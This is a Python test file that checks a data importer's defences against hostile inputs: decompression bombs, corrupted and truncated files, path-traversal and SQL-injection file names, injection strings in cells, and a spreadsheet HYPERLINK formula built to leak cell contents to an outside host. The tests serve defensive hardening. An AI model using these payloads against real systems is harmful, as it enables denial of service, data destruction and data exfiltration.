"""Hostile files: each is refused in one line, or read right; soon, in little memory, and without a
trace in the warehouse."""

import io
import os
import random
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pandas as pd
import pytest

from index_engine.errors import InputError
from index_engine.importing.mapping import read_mapping
from index_engine.importing.pipeline import run_import
from index_engine.importing.recognise.mapping_writer import mapping_text
from index_engine.importing.recognise.propose import propose_mapping
from tests.corpus.messy import cases, csv_bytes, csv_text, small_warehouse, workbook
from tests.importing import bombs
from tests.importing.guarded import guarded

SECONDS, MEGABYTES = 20, 1024  # of processor time; of memory

Make = Callable[[Path], None]


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    (tmp_path / "warehouse").mkdir()
    return small_warehouse(tmp_path / "warehouse" / "w.duckdb")


def state(folder: Path) -> dict[str, bytes]:
    """What stands in the folder of a warehouse; the file that a writer locks is empty."""
    return {path.name: path.read_bytes() for path in folder.iterdir() if path.suffix != ".lock"}


def take(file: Path, warehouse: Path) -> int:
    """Recognise and import; the rows kept."""
    proposal = propose_mapping(file, "cases")
    plan = read_mapping(mapping_text(proposal), "cases", file.with_suffix(".toml"))
    return run_import(warehouse, "cases", file, plan, dry_run=True).accepted_rows


# -------------------------------------------------------------------------------------------- bombs

BOMBS: dict[str, tuple[Make, str]] = {
    "many_long_texts.parquet": (partial(bombs.parquet_bomb, rows=1_000_000, length=20_000), "of text unpacked"),
    "few_longer_texts.parquet": (partial(bombs.parquet_bomb, rows=20_000, length=1_000_000), "of text unpacked"),
    "one_text_in_every_cell.xlsx": (
        partial(bombs.long_shared_string, rows=50_000, length=30_000),
        "within 6 seconds of processor time",
    ),
    "blanks.xlsx": (partial(bombs.zip_bomb, megabytes=300), "not an Excel workbook, or a damaged one"),
    "last_corner.xlsx": (bombs.last_corner, "17,179,869,184 cells"),
    "million_columns.csv": (bombs.million_columns, "1,000,000 columns"),
    "quote_without_end.csv": (partial(bombs.one_long_quote, megabytes=30), ""),
}


@pytest.mark.skipif(sys.platform != "linux", reason="memory is read from /proc")
@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused(name: str, tmp_path: Path, warehouse: Path) -> None:
    make, said = BOMBS[name]
    make(tmp_path / name)
    before = state(warehouse.parent)
    came = guarded(tmp_path / name, warehouse, "cases")
    assert came["error"] is not None
    assert said in came["error"]
    assert "\n" not in came["error"]
    assert came["megabytes"] < MEGABYTES
    assert came["seconds"] < SECONDS
    assert state(warehouse.parent) == before


@pytest.mark.skipif(sys.platform != "linux", reason="memory is read from /proc")
def test_one_long_line_costs_no_more_than_itself(tmp_path: Path) -> None:
    file = tmp_path / "f.csv"
    bombs.one_long_line(file, megabytes=100)
    came = guarded(file, tmp_path / "w.duckdb", "cases")
    assert (came["error"], came["kept"]) == (None, 5)
    assert came["megabytes"] < MEGABYTES
    assert came["seconds"] < SECONDS


# ------------------------------------------------------------------------------------ damaged files


def parquet() -> bytes:
    header, *rows = cases()
    out = io.BytesIO()
    texts = [[None if cell is None else str(cell) for cell in row] for row in rows]
    pd.DataFrame(texts, columns=header).to_parquet(out)
    return out.getvalue()


FORMATS: dict[str, Callable[[], bytes]] = {
    ".csv": lambda: csv_bytes(cases()),
    ".txt": lambda: csv_text(cases(), "\t").encode("gb18030"),
    ".tsv": lambda: csv_text(cases(), "\t").encode("utf-16"),
    ".xlsx": lambda: workbook(明细=cases()),
    ".parquet": parquet,
    ".xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000) + b"\xff" * 1500,
}


def check_refused_or_read(file: Path, warehouse: Path) -> None:
    """Whatever it is, it is read or there is one clear line; nothing else may be raised."""
    try:
        kept = take(file, warehouse)
    except InputError as error:
        assert "\n" not in str(error)
        assert str(file.parent) in str(error)
    else:
        assert 1 <= kept <= 5


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_file_cut_short(suffix: str, tmp_path: Path, warehouse: Path) -> None:
    whole = FORMATS[suffix]()
    for share in (0.02, 0.5, 0.9, 0.99):
        file = tmp_path / f"f{suffix}"
        file.write_bytes(whole[: int(len(whole) * share)])
        check_refused_or_read(file, warehouse)


@pytest.mark.parametrize("suffix", FORMATS)
def test_bytes_of_a_file_changed(suffix: str, tmp_path: Path, warehouse: Path) -> None:
    whole, chance = FORMATS[suffix](), random.Random(20260101)
    for _ in range(4):
        damaged = bytearray(whole)
        for _ in range(chance.choice((1, 5, 50))):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        file = tmp_path / f"f{suffix}"
        file.write_bytes(damaged)
        check_refused_or_read(file, warehouse)


@pytest.mark.parametrize("content", [".csv", ".xlsx", ".parquet"])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".xls", ".parquet"])
def test_an_ending_proves_nothing(content: str, suffix: str, tmp_path: Path, warehouse: Path) -> None:
    file = tmp_path / f"f{suffix}"
    file.write_bytes(FORMATS[content]())
    assert take(file, warehouse) == 5


# ------------------------------------------------------------------------------- names and no files


def test_names_that_lead_elsewhere(tmp_path: Path, warehouse: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "x.csv").write_bytes(csv_bytes(cases()))
    assert take(tmp_path / "in" / ".." / "x.csv", warehouse) == 5, "a name is a name to its owner"
    for name in ("gone/../../x.csv", "a" * 5000 + ".csv", "f.exe"):
        (tmp_path / "f.exe").write_bytes(csv_bytes(cases()))
        with pytest.raises(InputError):
            take(tmp_path / name, warehouse)
    with pytest.raises(InputError):
        take(tmp_path / "a\0b.csv", warehouse)


@pytest.mark.parametrize("name", ["'; DROP TABLE cases; --.csv", "*.csv", "f[1]?.csv", "$file.csv", "表.csv"])
def test_names_are_no_patterns_and_no_sql(name: str, tmp_path: Path, warehouse: Path) -> None:
    (tmp_path / "other.csv").write_bytes(csv_bytes(cases()[:3]))
    (tmp_path / name).write_bytes(csv_bytes(cases()))
    assert take(tmp_path / name, warehouse) == 5


def test_what_is_no_file(tmp_path: Path, warehouse: Path) -> None:
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "folder.csv").mkdir()
    (tmp_path / "loop.csv").symlink_to(tmp_path / "loop.csv")
    for name in ("pipe.csv", "folder.csv", "loop.csv"):
        with pytest.raises(InputError):
            take(tmp_path / name, warehouse)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read every file")
def test_a_file_that_may_not_be_read(tmp_path: Path, warehouse: Path) -> None:
    file = tmp_path / "f.csv"
    file.write_bytes(csv_bytes(cases()))
    file.chmod(0)
    with pytest.raises(InputError, match="cannot be opened"):
        take(file, warehouse)


# -------------------------------------------------------------------------------------------- texts


@pytest.mark.parametrize(
    "value", ['"""""', '"a""b', "{{}}", "{0}", "%s", "$p0", "'; DROP TABLE cases; --", "\\", "\x1b[31m", "../x"]
)
def test_signs_that_mean_something_elsewhere(value: str, tmp_path: Path, warehouse: Path) -> None:
    """In a header, in a cell and in a word of a list of codes."""
    file = tmp_path / "f.csv"
    file.write_bytes(csv_bytes(cases({"实际到位金额": f"备注{value}"}, 结案方式=[value] * 5)))
    check_refused_or_read(file, warehouse)
    header, *rows = cases()
    file.write_bytes(csv_bytes([header, *rows, [value] * len(header)]))
    assert take(file, warehouse) == 5


def test_a_formula_stays_a_text(tmp_path: Path, warehouse: Path) -> None:
    file = tmp_path / "f.csv"
    formula = '=HYPERLINK("http://example.org/?"&A1)'
    file.write_bytes(csv_bytes(cases(申请执行标的金额=[formula, 1000, 2000, 3000, 4000])))
    assert take(file, warehouse) == 4
